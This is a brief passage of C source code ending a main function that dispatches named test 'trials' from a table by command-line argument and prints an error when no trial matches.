	for (i = 0; i < N_ELEMENTS(trials); i++)
		if (!strcmp(argv[1], trials[i].name))
			return trials[i].run();
	fprintf(stderr, "attack: no trial %s\n", argv[1]);
	return NOT_HERE;
}
